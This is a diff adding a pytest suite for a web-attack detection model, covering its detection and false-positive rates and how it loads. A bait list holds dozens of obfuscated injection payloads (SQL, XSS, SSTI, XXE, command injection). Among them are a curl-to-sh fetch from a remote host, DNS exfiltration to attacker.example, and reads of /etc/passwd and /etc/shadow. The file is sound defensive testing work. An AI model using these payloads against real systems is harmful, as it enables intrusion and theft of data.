@@ -1,0 +1,301 @@
+"""Tests of the shipped semantic model (guard.engine.semantic) on the held-out split of dev.jsonl.
+
+Training is never run here and numpy is not needed: the split comes from
+``guard.engine.semantic_train``, whose numpy imports live inside the fitting functions. The
+floors are the held-out figures measured when the model was trained, minus a small margin; if a
+retrain (for instance after a change to the normaliser) moves them, update them from the
+trainer's report.
+"""
+
+from __future__ import annotations
+
+import gzip
+import json
+import time
+from pathlib import Path
+
+import pytest
+
+from guard.engine import semantic_train
+from guard.engine.normalize import normalize
+from guard.engine.semantic import (
+    CLASSES,
+    MODEL_RESOURCE,
+    SemanticAnalyzer,
+    SemanticVerdict,
+    default_analyzer,
+)
+
+CORPUS = Path(__file__).parent / "corpora" / "dev.jsonl"
+THRESHOLD = 0.7
+
+# Held-out TPR per class at 0.7 as measured at training time (in the comments), minus a margin
+# of about one point on the big classes and two or three lines on the small ones.
+TPR_FLOORS = {
+    "sqli": 0.955,  # 920/949 = 96.9%
+    "xss": 0.98,  # 1122/1135 = 98.9%
+    "cmdi": 0.89,  # 82/89 = 92.1%
+    "path_traversal": 0.97,  # 693/707 = 98.0%
+    "ssti": 0.94,  # 53/54 = 98.1%
+    "crlf": 0.97,  # 124/124
+    "ldap": 0.96,  # 50/50
+    "xml": 0.93,  # 32/32
+    "nosql": 0.95,  # 48/48
+    "file_upload": 0.93,  # 72/75 = 96.0%
+}
+FPR_CEILING = 0.005
+HARD_SOURCE_FPR_CEILING = {"synthetic:handwritten": 0.01, "synthetic:python-docstrings": 0.01}
+
+# False-positive bait written for these tests: documentation and forum prose, none of it in the
+# corpus. Every line must stay under the threshold.
+BENIGN_BAIT = [
+    "select a union station",
+    "drop ceiling tiles",
+    "rm -rf meaning",
+    "O'Brien & Sons",
+    "To select a union station platform, follow the signs from the main hall.",
+    "Drop ceiling tiles are usually 2' x 4' and sit in a metal grid.",
+    "What does rm -rf mean? I saw it in a forum post and I'm scared to try it.",
+    "O'Brien & Sons, est. 1921 - plumbing, heating & gas.",
+    "In SQL, the UNION operator combines the result sets of two SELECT statements.",
+    "Re: my order #12345 -- still waiting (3 weeks!) & no reply from support :(",
+    "Can anyone recommend a good book on Python? I've read 'Fluent Python' and loved it.",
+    "Set the variable with export PATH=$PATH:/usr/local/bin and restart your shell.",
+    "He said: \"I'll be there at 5; don't wait up.\"",
+    "Call cursor.execute(query, params) instead of formatting the string yourself.",
+    "Tip: press Ctrl+C to cancel, or type 'exit' and hit Enter.",
+    "The {name} placeholder is replaced by the user's first name.",
+    "Order by date (newest first) or by price (lowest first).",
+    "Thanks!! Worked like a charm :) -- Mike",
+    "Delete from the list any item that's out of stock, then update the totals.",
+    "Is there a way to select all rows where the price is between 10 and 20?",
+    "The script tag loads the analytics bundle asynchronously, so the page renders first.",
+    "Returns -1 if the key is missing; otherwise the index (0-based) of the first match.",
+    "My grandma's recipe: 2 cups flour, 1/2 cup sugar, and a pinch of salt & love <3",
+    "Use the `--force` flag only if you know what you're doing!",
+    "lol that's what she said :P",
+    "Can someone explain the difference between <div> and <span>?",
+    "I paid $5 for 2 coffees; worth it!",
+    "email me at john.o'neil@example.com",
+    "Price range: 10-20 (incl. tax) | free shipping",
+    "The function returns a dict like {'a': 1, 'b': 2} when called with keys=True.",
+    "Run `ls -la` to list the files, then `cat README.md` to read it.",
+    "See ../docs/install.md for the installation steps.",
+]
+
+# Obfuscated attacks written for these tests (not corpus lines). The model need not catch all.
+ATTACK_BAIT = [
+    ("sqli", "1'/**/oR/**/'a'='a"),
+    ("sqli", "-1 UnIoN/*!50000SeLeCt*/ 1,group_concat(table_name) FROM information_schema.tables"),
+    ("sqli", "admin'-- -"),
+    ("sqli", "1;select pg_sleep(10)--"),
+    ("sqli", "x' AND extractvalue(1,concat(0x7e,version()))-- "),
+    ("xss", "<svg/onload=alert`1`>"),
+    ("xss", "<img src=x oNeRrOr=confirm(document.domain)>"),
+    ("xss", '"><details open ontoggle=prompt(1)>'),
+    ("xss", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>"),
+    ("cmdi", ";cat${IFS}/etc/passwd"),
+    ("cmdi", "$(curl -s http://203.0.113.9/x.sh|sh)"),
+    ("cmdi", "a`id`b"),
+    ("path_traversal", "....//....//....//etc/shadow"),
+    ("path_traversal", "..%252f..%252f..%252fwindows/win.ini"),
+    ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"),
+    ("ssti", "<%= 7*7 %>${{7*7}}"),
+    ("crlf", "%0d%0aSet-Cookie:%20admin=true"),
+    ("ldap", "*)(uid=*))(|(uid=*"),
+    ("xml", '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><r>&e;</r>'),
+    ("nosql", '{"login": {"$regex": "^adm"}, "password": {"$ne": null}}'),
+    ("file_upload", "avatar.pHp7%00.png"),
+    ("sqli", "') OR EXISTS(SELECT 1 FROM users WHERE name LIKE 'a%')#"),
+    ("sqli", "1%27%20%2F%2A%2A%2FUnIoN%2F%2A%2A%2FSeLeCt%2F%2A%2A%2F1,2,3"),
+    ("sqli", "1 AnD (SeLeCt 1 FrOm (SeLeCt CoUnT(*),CoNcAt(0x3a,(SeLeCt database()))x)a)"),
+    ("xss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("xss", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'),
+    ("xss", "<body onpageshow=top['al'+'ert'](1)>"),
+    ("cmdi", "127.0.0.1 && powershell -enc SQBFAFgA"),
+    ("cmdi", "|| nslookup $(whoami).attacker.example"),
+    ("path_traversal", "/static/..%c0%af..%c0%af..%c0%afetc/passwd"),
+    ("path_traversal", "php://filter/convert.base64-encode/resource=index.php"),
+    ("ssti", "{{request.application.__globals__.__builtins__.__import__('os').popen('id')}}"),
+    ("ssti", "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))"),
+    ("crlf", "/redirect?url=%0d%0aLocation:%20https://evil.test"),
+    ("nosql", "username[$ne]=x&password[$gt]="),
+    ("ldap", "admin)(&(objectClass=user)(|(password=*"),
+    ("xml", '<!DOCTYPE d [<!ENTITY % dtd SYSTEM "http://evil.test/x.dtd"> %dtd;]><d>&send;</d>'),
+    ("file_upload", "shell.aspx;.jpg"),
+]
+ATTACK_BAIT_FLOOR = 35  # 38 of 38 caught when the model was trained
+
+
+@pytest.fixture(scope="module")
+def analyzer() -> SemanticAnalyzer:
+    return default_analyzer()
+
+
+@pytest.fixture(scope="module")
+def corpus() -> list[semantic_train.Line]:
+    return semantic_train.load_corpus(CORPUS)
+
+
+@pytest.fixture(scope="module")
+def heldout(corpus: list[semantic_train.Line]) -> list[semantic_train.Line]:
+    return semantic_train.split(corpus)[1]
+
+
+@pytest.fixture(scope="module")
+def report(
+    analyzer: SemanticAnalyzer, heldout: list[semantic_train.Line]
+) -> semantic_train.Report:
+    return semantic_train.evaluate(analyzer, heldout, THRESHOLD)
+
+
+def test_shipped_model_loads(analyzer: SemanticAnalyzer) -> None:
+    assert analyzer.loaded
+    assert default_analyzer() is analyzer
+
+
+def test_shipped_model_is_small() -> None:
+    path = Path(semantic_train.DEFAULT_OUTPUT)
+    assert path.name == MODEL_RESOURCE
+    assert path.stat().st_size <= 3 * 1024 * 1024
+
+
+def test_split_is_stable_and_covers_every_class(corpus: list[semantic_train.Line]) -> None:
+    train, heldout = semantic_train.split(corpus)
+    assert len(train) + len(heldout) == len(corpus)
+    assert 0.18 < len(heldout) / len(corpus) < 0.22
+    assert {line.cls for line in heldout} == set(CLASSES)
+    assert semantic_train.split(corpus)[1] == heldout
+
+
+def test_split_keeps_near_duplicates_together() -> None:
+    variants = ["1' OR '1'='1", "1' or '1'='1", "１' OR  '1'='1", "7' or '7'='7"]
+    assert len({semantic_train.is_heldout(v) for v in variants}) == 1
+
+
+@pytest.mark.parametrize("cls", sorted(TPR_FLOORS))
+def test_heldout_tpr_floor(report: semantic_train.Report, cls: str) -> None:
+    detected, total = report.detected[cls]
+    assert total > 0
+    assert detected / total >= TPR_FLOORS[cls], f"{cls}: {detected}/{total}"
+
+
+def test_heldout_fpr_ceiling(report: semantic_train.Report) -> None:
+    flagged, total = report.fpr()
+    assert flagged / total <= FPR_CEILING, f"{flagged}/{total}"
+    for source, ceiling in HARD_SOURCE_FPR_CEILING.items():
+        flagged, total = report.false_positives[source]
+        assert flagged / total <= ceiling, f"{source}: {flagged}/{total}"
+
+
+def test_heldout_class_accuracy(report: semantic_train.Report) -> None:
+    correct = sum(hits for hits, _ in report.correct_class.values())
+    detected = sum(hits for hits, _ in report.detected.values())
+    assert correct / detected >= 0.985  # 3182/3196 = 99.6% when trained
+
+
+@pytest.mark.parametrize("text", BENIGN_BAIT)
+def test_benign_bait_scores_low(analyzer: SemanticAnalyzer, text: str) -> None:
+    verdict = analyzer.analyze(normalize(text))
+    assert verdict.probability < THRESHOLD, verdict
+
+
+def test_attack_bait_recall(analyzer: SemanticAnalyzer) -> None:
+    caught = [
+        (cls, text)
+        for cls, text in ATTACK_BAIT
+        if analyzer.analyze(normalize(text)).probability >= THRESHOLD
+    ]
+    assert len(caught) >= ATTACK_BAIT_FLOOR, set(ATTACK_BAIT) - set(caught)
+
+
+def test_verdict_shape(analyzer: SemanticAnalyzer) -> None:
+    verdict = analyzer.explain(normalize("<img src=x onerror=alert(document.cookie)>"))
+    assert verdict.attack_type == "xss"
+    assert 0.0 <= verdict.probability <= 1.0
+    assert verdict.probability == round(verdict.probability, 4)
+    assert 0 < len(verdict.features) <= 8
+    assert all(isinstance(name, str) and weight > 0 for name, weight in verdict.features)
+    assert analyzer.analyze("hello world").features == ()
+
+
+def test_analyze_is_deterministic(analyzer: SemanticAnalyzer, tmp_path: Path) -> None:
+    other = SemanticAnalyzer(semantic_train.DEFAULT_OUTPUT)
+    for _, text in ATTACK_BAIT:
+        value = normalize(text)
+        assert analyzer.analyze(value) == analyzer.analyze(value) == other.analyze(value)
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        None,
+        b"",
+        b"not json at all",
+        b"\x1f\x8b\x08\x00garbage",
+        gzip.compress(b'{"format": "guard-semantic/1"}'),
+        gzip.compress(b"[1, 2, 3]"),
+        gzip.compress(json.dumps({"format": "something-else"}).encode()),
+    ],
+)
+def test_missing_or_corrupt_model_is_benign(tmp_path: Path, content: bytes | None) -> None:
+    path = tmp_path / "model.json.gz"
+    if content is not None:
+        path.write_bytes(content)
+    analyzer = SemanticAnalyzer(path)
+    assert not analyzer.loaded
+    verdict = analyzer.analyze("1' or '1'='1' -- <script>alert(1)</script>")
+    assert verdict == SemanticVerdict("benign", 0.0, ())
+
+
+def test_model_with_wrong_weights_is_rejected(tmp_path: Path) -> None:
+    with gzip.open(semantic_train.DEFAULT_OUTPUT) as fh:
+        model = json.load(fh)
+    first = next(iter(model["blocks"]["ngram"]))
+    model["blocks"]["ngram"][first] = [1.0, 2.0]
+    path = tmp_path / "model.json.gz"
+    path.write_bytes(gzip.compress(json.dumps(model).encode()))
+    assert not SemanticAnalyzer(path).loaded
+
+
+def test_gate_keeps_attack_lines(corpus: list[semantic_train.Line]) -> None:
+    analyzer = SemanticAnalyzer(Path("/nonexistent/model.json"))
+    attacks = [line for line in corpus if line.label == "attack"]
+    rejected = [
+        line.payload for line in attacks if not analyzer.worth_analyzing(normalize(line.payload))
+    ]
+    # What the gate lets go are label noise ("Comments:", "!", "Time-Based:") and a bare
+    # "which python"; see tests/corpora/README.md, "Known weaknesses".
+    assert len(rejected) <= 12, rejected
+
+
+@pytest.mark.parametrize(
+    "text", ["hello world", "Marijnweg 83 5679MR Eckelrade", "The quick brown fox.", "koeman0"]
+)
+def test_gate_skips_plain_values(text: str) -> None:
+    assert not default_analyzer().worth_analyzing(text)
+
+
+@pytest.mark.parametrize("_cls,text", ATTACK_BAIT)
+def test_gate_passes_attack_bait(_cls: str, text: str) -> None:
+    assert default_analyzer().worth_analyzing(normalize(text))
+
+
+def test_long_values_are_bounded(analyzer: SemanticAnalyzer) -> None:
+    payload = "<script>alert(document.cookie)</script>"
+    padding = "lorem ipsum dolor sit amet, " * 40_000
+    for text in (
+        padding[:1_000_000],
+        "'" * 1_000_000,
+        padding[:500_000] + payload + padding[:500_000],
+    ):
+        started = time.perf_counter()
+        verdict = analyzer.analyze(text)
+        assert time.perf_counter() - started < 0.5
+        assert 0.0 <= verdict.probability <= 1.0
+
+
+def test_long_value_keeps_its_suspicious_window(analyzer: SemanticAnalyzer) -> None:
+    padding = "lorem ipsum dolor sit amet, " * 200
+    text = padding + "\"><script>alert(document.cookie)</script>" + padding
+    assert analyzer.analyze(text).probability >= THRESHOLD
